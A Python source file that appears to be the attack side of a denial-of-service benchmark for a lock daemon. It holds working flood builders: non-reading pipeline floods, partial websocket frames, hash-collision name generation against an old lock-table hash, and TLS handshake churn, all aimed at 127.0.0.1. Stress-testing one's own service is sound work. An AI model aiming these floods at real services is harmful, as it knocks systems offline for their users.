"""The attackers of bench/attack.py: a small non-blocking event loop over many
sockets, websocket framing, the names that collide under the old lock-table
hash, and one builder per attack of issue 10.

Standard library only. Every socket goes to 127.0.0.1; every loop is bounded
by a deadline that the caller gives.
"""
import base64
import os
import selectors
import socket
import ssl
import struct
import time

HOST = "127.0.0.1"
READ, WRITE = selectors.EVENT_READ, selectors.EVENT_WRITE
CHUNK = 256 * 1024


# --------------------------------------------------------------------------
# Event loop


class Conn:
    """One non-blocking connection: sends `data`, then whatever more(conn)
    returns (None: nothing now), as fast as the kernel takes it; reads only
    when on_read(conn, bytes) is given (a non-reader never reads)."""

    def __init__(self, sock, data=b"", more=None, on_read=None):
        sock.setblocking(False)
        self.sock, self.buf, self.off = sock, memoryview(data), 0
        self.more, self.on_read = more, on_read
        self.mask, self.dead, self.closed_by_peer = 0, False, False
        self.sent = self.received = 0

    def wants_write(self):
        if self.off < len(self.buf):
            return True
        nxt = self.more(self) if self.more else None
        if nxt:
            self.buf, self.off = memoryview(nxt), 0
            return True
        return False

    def do_write(self):
        try:
            while self.wants_write():
                n = self.sock.send(self.buf[self.off:self.off + CHUNK])
                self.off += n
                self.sent += n
        except BlockingIOError:
            pass
        except OSError:  # EPIPE, ECONNRESET: the daemon closed us
            self.dead = self.closed_by_peer = True

    def do_read(self):
        try:
            data = self.sock.recv(CHUNK)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.dead = self.closed_by_peer = True
            return
        self.received += len(data)
        self.on_read(self, data)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Loop:
    def __init__(self):
        self.sel = selectors.DefaultSelector()
        self.conns = []
        self.fired = set()

    def add(self, conn):
        self.conns.append(conn)
        self.update(conn)
        return conn

    def update(self, c):
        mask = 0 if c.dead else ((READ if c.on_read else 0) | (WRITE if c.wants_write() else 0))
        if mask == c.mask:
            return
        if c.mask == 0:
            self.sel.register(c.sock, mask, c)
        elif mask == 0:
            self.sel.unregister(c.sock)
        else:
            self.sel.modify(c.sock, mask, c)
        c.mask = mask

    def watch(self, fd, name):
        """`name` goes into self.fired once fd is readable (e.g. a pidfd)."""
        self.sel.register(fd, READ, name)

    def run(self, deadline, until=None, tick=None):
        while True:
            now = time.monotonic()
            if now >= deadline or (until and until()):
                return
            if tick:
                tick(now)
            for key, ev in self.sel.select(min(deadline - now, 0.01)):
                c = key.data
                if isinstance(c, str):
                    self.fired.add(c)
                    self.sel.unregister(key.fd)
                    continue
                if ev & READ:
                    c.do_read()
                if ev & WRITE and not c.dead:
                    c.do_write()
                self.update(c)

    def close(self):
        for c in self.conns:
            c.close()
        self.sel.close()


# --------------------------------------------------------------------------
# Blocking helpers (set-up steps before the flood)


def connect(port, timeout=10.0):
    s = socket.create_connection((HOST, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def read_lines(sock, n, timeout=30.0):
    """Reads until n answer lines arrived; returns them (bytes)."""
    deadline, buf = time.monotonic() + timeout, bytearray()
    while buf.count(b"\n") < n:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        chunk = sock.recv(CHUNK)
        if not chunk:
            raise ConnectionError("daemon closed the connection")
        buf += chunk
    return bytes(buf)


def pipeline(sock, data, n, timeout=30.0):
    """Sends data while reading, until n answer lines arrived."""
    loop, got = Loop(), bytearray()
    c = loop.add(Conn(sock, data, on_read=lambda c, d: got.extend(d)))
    loop.run(time.monotonic() + timeout, until=lambda: got.count(b"\n") >= n or c.dead)
    sock.setblocking(True)
    if got.count(b"\n") < n:
        raise ConnectionError("%d of %d answers" % (got.count(b"\n"), n))
    return bytes(got)


def ws_connect(port, timeout=10.0):
    """A websocket (RFC 6455) after a checked 101 answer."""
    s = connect(port, timeout)
    key = base64.b64encode(os.urandom(16))
    s.sendall(b"GET / HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              b"Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n"
              % (HOST.encode(), port, key))
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            raise ConnectionError("closed during the websocket handshake")
        head += chunk
    if not head.startswith(b"HTTP/1.1 101"):
        raise ConnectionError("websocket upgrade refused: %r" % head[:80])
    return s


def ws_frame(payload, declared=None, mask=b"\x1f\x2e\x3d\x4c"):
    """A masked text frame; `declared` overrides the length in the header."""
    n = len(payload) if declared is None else declared
    head = bytearray([0x81])
    if n < 126:
        head.append(0x80 | n)
    elif n < 65536:
        head += bytes([0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head += bytes([0x80 | 127]) + n.to_bytes(8, "big")
    keys = (mask * (len(payload) // 4 + 1))[:len(payload)]
    body = (int.from_bytes(payload, "little") ^ int.from_bytes(keys, "little")).to_bytes(
        len(payload), "little")
    return bytes(head) + mask + body


# --------------------------------------------------------------------------
# The old lock-table hash (src/lock_table.cpp hash_of at 68a58a1), inverted

M64 = (1 << 64) - 1
KMUL = 0x9e3779b97f4a7c15
KINV = pow(KMUL, -1, 1 << 64)


def _mix(x):
    x ^= x >> 33
    x = (x * 0xff51afd7ed558ccd) & M64
    x ^= x >> 33
    x = (x * 0xc4ceb9fe1a85ec53) & M64
    return x ^ (x >> 33)


def old_hash(name, kind=0):
    """hash_of(kind, name) of 68a58a1, byte for byte (kind 0: exclusive)."""
    h = ((len(name) << 1) ^ kind) & M64
    full = len(name) // 8 * 8
    for i in range(0, full, 8):
        h = ((h ^ int.from_bytes(name[i:i + 8], "little")) * KMUL) & M64
        h ^= h >> 29
    if full < len(name):
        h = ((h ^ int.from_bytes(name[full:], "little")) * KMUL) & M64
    h = _mix(h)
    return (h ^ (h >> 32)) & 0xffffffff


def colliding_names(n, target=0x0123456789abcdef):
    """n distinct 24-byte names whose state before the final mix is `target`,
    so their 32-bit hashes are all equal (not just the low 16 bits). Each
    word step h = xorshift29((h ^ w) * K) is invertible: the first 16 bytes
    are free, the last word is solved for and kept when none of its bytes is
    whitespace or below 0x21 (about 1 in 3)."""
    x = target ^ (target >> 29) ^ (target >> 58)  # undo h ^= h >> 29
    before = (x * KINV) & M64  # the value (h2 ^ w3) must have
    out, j = [], 0
    while len(out) < n:
        head = b"hf%014d" % j
        j += 1
        h = 48  # (24 << 1) ^ kind 0
        for i in (0, 8):
            h = ((h ^ int.from_bytes(head[i:i + 8], "little")) * KMUL) & M64
            h ^= h >> 29
        last = (before ^ h).to_bytes(8, "little")
        if min(last) > 0x20:
            out.append(head + last)
    assert len({old_hash(m) for m in out[:50]}) == 1
    return out


# --------------------------------------------------------------------------
# The attacks. Each builder does its set-up (blocking, bounded) and returns
# an Attack whose loop the caller runs; sizes are the finding's times scale.


class Attack:
    def __init__(self, params):
        self.params = params  # what was sent, for the table
        self.loop = Loop()
        self.held = []  # blocking sockets kept open (holders)
        self.extra_time = 0.0  # how long past the window busy() may keep it going

    def busy(self, now):
        return False

    def tick(self, now):
        pass

    def notes(self):
        return ""

    def closed_by_daemon(self):
        return sum(c.closed_by_peer for c in self.loop.conns)

    def close(self):
        self.loop.close()
        for s in self.held:
            s.close()


def sized(base, scale, least=1):
    return max(least, int(base * scale))


def _counter(key, total):
    """on_read that counts answer lines into total[key]."""
    def on_read(conn, data):
        total[key] = total.get(key, 0) + data.count(b"\n")
    return on_read


def dump_amplify(ctx, scale, kib):
    a = Attack(None)
    locks, size = sized(1000, scale, 10), sized(kib * 1024, scale, 64)
    holder = connect(ctx.port)
    a.held.append(holder)
    pipeline(holder, b"".join(b"g lock%04d\n" % i for i in range(locks)), locks)
    a.loop.add(Conn(connect(ctx.port), b"d\n" * (size // 2)))
    a.params = "%d locks; %d B of d, never read" % (locks, size)
    return a


def wait_then_q(ctx, scale):
    a = Attack(None)
    size = sized(1_200_000, scale, 64)
    holder = connect(ctx.port)
    a.held.append(holder)
    holder.sendall(b"g L\n")
    read_lines(holder, 1)
    a.loop.add(Conn(connect(ctx.port), b"w 60000 L\n" + b"q\n" * (size // 2)))
    a.params = "w 60000 L, then %d B of q, never read" % size
    return a


def ws_q_message(ctx, scale):
    a = Attack(None)
    size = sized(1 << 20, scale, 64)
    a.loop.add(Conn(ws_connect(ctx.ws_port), ws_frame(b"q\n" * (size // 2))))
    a.params = "one %d B message of q, never read" % size
    return a


def connect_many(ctx, n, make, a):
    """n connections made by make(); stops early at the window's end."""
    for _ in range(n):
        if time.monotonic() >= ctx.deadline:
            break
        a.loop.add(make())
    return len(a.loop.conns)


def pipeline_no_read(ctx, scale):
    a = Attack(None)
    n, reqs = sized(2000, scale, 2), sized(100_000, scale, 100)
    data = b"i x\n" * reqs  # shared by every connection
    got = connect_many(ctx, n, lambda: Conn(connect(ctx.port), data), a)
    a.params = "%d of %d clients x %d B of i, never read" % (got, n, len(data))
    return a


def ws_partial(ctx, scale):
    a = Attack(None)
    n, size = sized(1000, scale, 2), sized(1 << 20, scale, 1024)
    frame = ws_frame(b"i x\n" * (size // 4 - 4), declared=size)  # all but the last 16 B
    got = connect_many(ctx, n, lambda: Conn(ws_connect(ctx.ws_port), frame), a)
    a.params = "%d of %d websockets x %d B message, last 16 B never sent" % (got, n, size)
    return a


def many_locks(ctx, scale, name_len=8189):
    a = Attack(None)
    n, total, state = sized(50_000, scale, 10), {}, {"next": 0}
    pad = b"n" * (name_len - 8)  # "g " + name + "\n" is 8192 B, --max-line's default

    def more(conn):
        i = state["next"]
        if i >= n:
            return None
        state["next"] = min(n, i + 64)
        return b"".join(b"g %08d%s\n" % (k, pad) for k in range(i, state["next"]))

    ok = {"n": 0}

    def on_read(conn, data):
        total["lines"] = total.get("lines", 0) + data.count(b"\n")
        ok["n"] += data.count(b"1 Lock Get Success: ")

    a.loop.add(Conn(connect(ctx.port), more=more, on_read=on_read))
    a.params = "%d locks, %d B names, answers read" % (n, name_len)
    a.notes = lambda: "%d of %d answered, %d taken" % (total.get("lines", 0), n, ok["n"])
    return a


def q_flood_readers(ctx, scale, depth=64):
    a = Attack(None)
    n, total = sized(200, scale, 2), {"answers": 0}

    def make():
        st = {"sent": 0, "lines": 0}

        def more(conn):
            inflight = st["sent"] - st["lines"] // ctx.q_lines
            if inflight > depth // 2:
                return None
            st["sent"] += depth - inflight
            return b"q\n" * (depth - inflight)

        def on_read(conn, data):
            before = st["lines"] // ctx.q_lines
            st["lines"] += data.count(b"\n")
            total["answers"] += st["lines"] // ctx.q_lines - before

        return Conn(connect(ctx.port), more=more, on_read=on_read)

    got = connect_many(ctx, n, make, a)
    a.params = "%d of %d clients, %d q in flight each, answers read" % (got, n, depth)
    a.notes = lambda: "%d q answered" % total["answers"]
    return a


def hash_flood(ctx, scale):
    a = Attack(None)
    names = ctx.colliding(sized(40_000, scale, 50))
    total, t0 = {}, time.monotonic()
    done = {}

    def on_read(conn, data):
        total["lines"] = total.get("lines", 0) + data.count(b"\n")
        if total["lines"] >= len(names) and "t" not in done:
            done["t"] = time.monotonic() - t0

    a.loop.add(Conn(connect(ctx.port), b"".join(b"g " + m + b"\n" for m in names),
                    on_read=on_read))
    a.params = "%d names, one 32-bit hash under the old hash_of" % len(names)
    a.notes = lambda: ("all %d answered in %.0f ms" % (len(names), done["t"] * 1000)
                       if "t" in done else "%d of %d answered" % (total.get("lines", 0),
                                                                   len(names)))
    return a


def flood_then_connect(ctx, scale, late_cap=30.0):
    """200 non-readers flood q; a new client connects 1 s in (a fifth of the
    window if shorter) and times connect() to its first answer."""
    a = Attack(None)
    n = sized(200, scale, 2)
    data = b"q\n" * (2 << 20)  # 4 MB each, shared: more than they can ever send
    got = connect_many(ctx, n, lambda: Conn(connect(ctx.port), data), a)
    late = {"at": time.monotonic() + min(1.0, ctx.window / 5), "t0": None, "ms": None}
    a.extra_time = late_cap

    def on_read(conn, d):
        if late["ms"] is None:
            late["ms"] = (time.monotonic() - late["t0"]) * 1000

    def tick(now):
        if late["t0"] is None and now >= late["at"]:
            s = socket.socket()
            s.setblocking(False)
            late["t0"] = time.monotonic()
            s.connect_ex((HOST, ctx.port))
            a.loop.add(Conn(s, b"i probe\n", on_read=on_read))

    def busy(now):
        return late["ms"] is None and (late["t0"] is None or now < late["t0"] + late_cap)

    a.tick, a.busy = tick, busy
    a.first_answer = late
    a.params = "%d of %d clients flood q, never read; 1 new client" % (got, n)
    a.notes = lambda: ("new client: first answer after %.0f ms" % late["ms"]
                       if late["ms"] is not None else
                       "new client: no answer within %.0f s" % late_cap)
    return a


# --------------------------------------------------------------------------
# TLS (issue 12): a daemon with --ssl speaks only TLS on its TCP port


def tls_client_context(pki):
    """What a well-behaved client uses: verifies the daemon's certificate
    (CA, and 127.0.0.1 in its subjectAltName) and presents client-one's."""
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.load_verify_locations(pki["ca"])
    c.load_cert_chain(pki["client"], pki["client_key"])
    return c


def tls_connect(port, context, timeout=10.0):
    return context.wrap_socket(connect(port, timeout), server_hostname=HOST)


class HandshakeChurn:
    """One attacker of the handshake burst, for Loop: connect, a full TLS
    handshake with a valid client certificate, one `i` and its answer (so
    the daemon did the whole handshake, the client certificate's check
    included), an abortive close, and again. Never resumes a session."""

    REQUEST = b"i churn\n"

    def __init__(self, loop, port, context, stats):
        self.loop, self.port, self.context, self.stats = loop, port, context, stats
        self.mask, self.dead, self.closed_by_peer = 0, False, False
        self.on_read = True  # always registered for reading
        self._start()

    def _start(self):
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.connect_ex((HOST, self.port))
        self.sock, self.tls, self.state, self.want_write = s, None, "connect", True

    def _restart(self, ok):
        self.stats["done" if ok else "failed"] += 1
        if self.mask:
            self.loop.sel.unregister(self.sock)
            self.mask = 0
        self.sock.close()  # SO_LINGER 0: RST, no TIME_WAIT on either side
        self._start()

    def wants_write(self):
        return self.want_write

    def do_write(self):
        self._step()

    def do_read(self):
        self._step()

    def _step(self):
        try:
            if self.state == "connect":
                if self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    return self._restart(False)
                self.tls = self.context.wrap_socket(self.sock, server_hostname=HOST,
                                                    do_handshake_on_connect=False)
                self.sock, self.state = self.tls, "handshake"
            if self.state == "handshake":
                self.tls.do_handshake()
                self.tls.send(self.REQUEST)
                self.state, self.want_write = "answer", False
                return
            data = self.tls.recv(4096)
            if not data:
                return self._restart(False)
            if b"\n" in data:
                self._restart(True)
        except ssl.SSLWantReadError:
            self.want_write = False
        except ssl.SSLWantWriteError:
            self.want_write = True
        except (ssl.SSLError, OSError) as e:
            self.stats.setdefault("first_error", str(e))
            self._restart(False)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def tls_handshake_burst(ctx, scale):
    """Many clients doing full handshakes in a loop (bounded: n clients,
    the window)."""
    a = Attack(None)
    n, stats = sized(64, scale, 2), {"done": 0, "failed": 0}
    t0 = time.monotonic()
    for _ in range(n):
        a.loop.add(HandshakeChurn(a.loop, ctx.port, ctx.tls_client, stats))
    a.params = "%d clients, each: connect, full handshake (%s server key), i, RST, again" % (
        n, ctx.tls_kind)

    def notes():
        rate = stats["done"] / max(1e-9, min(time.monotonic(), ctx.deadline) - t0)
        out = "%d handshakes (%.0f/s), %d failed" % (stats["done"], rate, stats["failed"])
        if "first_error" in stats:
            out += " (first: %s)" % stats["first_error"][:80]
        return out

    a.notes = notes
    a.closed_by_daemon = lambda: 0
    return a


def _tls_attack(builder, kind, probe):
    """builder with what attack.py needs to start its daemon and probe:
    tls_kind "ec" (P-256) or "rsa" (2048) certificates for --ssl; probe
    "tls" (a TLS client on the TCP port) or "unix" (a plain client on the
    daemon's unix socket: the TCP port speaks only TLS)."""
    def build(ctx, scale):
        return builder(ctx, scale)
    build.tls_kind, build.probe = kind, probe
    return build


ATTACKS = [  # name, builder(ctx, scale)
    ("dump-amplify-64k", lambda ctx, s: dump_amplify(ctx, s, 64)),
    ("dump-amplify-16k", lambda ctx, s: dump_amplify(ctx, s, 16)),
    ("wait-then-q", wait_then_q),
    ("ws-q-message", ws_q_message),
    ("pipeline-no-read", pipeline_no_read),
    ("ws-partial", ws_partial),
    ("many-locks", many_locks),
    ("q-flood-readers", q_flood_readers),
    ("hash-flood", hash_flood),
    ("non-reading-flood-connect", flood_then_connect),
    ("tls-handshake-burst-ec", _tls_attack(tls_handshake_burst, "ec", "tls")),
    ("tls-handshake-burst-ec-unix", _tls_attack(tls_handshake_burst, "ec", "unix")),
    ("tls-handshake-burst-rsa", _tls_attack(tls_handshake_burst, "rsa", "tls")),
    ("tls-handshake-burst-rsa-unix", _tls_attack(tls_handshake_burst, "rsa", "unix")),
]
